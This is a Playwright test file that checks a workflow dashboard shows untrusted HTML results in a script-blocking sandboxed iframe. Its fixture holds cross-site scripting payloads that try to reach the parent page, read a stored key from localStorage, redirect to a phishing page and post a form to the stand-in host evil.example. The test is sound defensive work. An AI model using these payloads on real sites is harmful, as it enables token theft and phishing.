import { expect, test } from './support/fixtures';

const workflowId = 'aaaaaaaa-aaaa-4aaa-8aaa-aaaaaaaaaaaa';
const executionId = 'bbbbbbbb-bbbb-4bbb-8bbb-bbbbbbbbbbbb';

const HOSTILE = `<!doctype html><html><head><title>report</title></head><body>
<h1>Quarterly report</h1>
<script>
  document.body.setAttribute('data-script-ran', 'yes');
  try { parent.document.title = 'pwned'; } catch (e) {}
  try { parent.window.__hostile = 'parent reached'; } catch (e) {}
  try { parent.window.__stolen = localStorage.getItem('wf.key.local') || sessionStorage.getItem('wf.key.local'); } catch (e) {}
  try { top.location.href = 'https://evil.example/phish'; } catch (e) {}
</script>
<img src="x" onerror="parent.window.__hostile = 'onerror ran'">
<img src="https://evil.example/pixel.png" alt="">
<link rel="stylesheet" href="https://evil.example/style.css">
<form action="https://evil.example/steal" method="post"><input name="q"><button>Send</button></form>
</body></html>`;

// The dashboard must be safe against any server, so the hostile result is served by a stand-in
// for the API rather than by the local service (which would never produce it).
test('a hostile HTML result cannot run scripts, reach the dashboard or load anything', async ({
  connectedPage: page,
}) => {
  await page.route(`**/api/v1/workflows/${workflowId}`, (route) =>
    route.fulfill({
      json: {
        id: workflowId,
        name: 'Quarterly report',
        description: 'A server we do not trust',
        created_at: '2026-11-21T10:00:00.000000Z',
        updated_at: '2026-11-21T10:00:00.000000Z',
        input_schema: null,
      },
    }),
  );
  await page.route(`**/api/v1/workflows/${workflowId}/executions/${executionId}`, (route) =>
    route.fulfill({
      json: {
        id: executionId,
        workflow_id: workflowId,
        status: 'finished',
        created_at: '2026-11-21T10:00:01.000000Z',
        results: [{ filename: 'report.html', url: 'http://127.0.0.1:1/files/report.html', content: HOSTILE }],
      },
    }),
  );
  const outbound: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) outbound.push(request.url());
  });
  const dialogs: string[] = [];
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });

  await page.goto(`/workflows/${workflowId}/executions/${executionId}`);
  const frame = page.frameLocator('iframe[title="Preview of report.html"]');
  await expect(frame.getByRole('heading', { name: 'Quarterly report' })).toBeVisible();
  await page.waitForTimeout(1000);

  const iframe = page.locator('iframe[title="Preview of report.html"]');
  const sandbox = await iframe.getAttribute('sandbox');
  expect(sandbox).not.toBeNull();
  expect(sandbox).not.toContain('allow-scripts');
  expect(sandbox).not.toContain('allow-same-origin');
  await expect(frame.locator('body')).not.toHaveAttribute('data-script-ran', 'yes');

  const state = await page.evaluate(() => ({
    hostile: (window as unknown as { __hostile?: string }).__hostile ?? null,
    stolen: (window as unknown as { __stolen?: string }).__stolen ?? null,
    title: document.title,
  }));
  expect(state.hostile).toBeNull();
  expect(state.stolen).toBeNull();
  expect(state.title).not.toContain('pwned');
  expect(page.url()).toContain(`/executions/${executionId}`);
  expect(outbound).toEqual([]);
  expect(dialogs).toEqual([]);
});
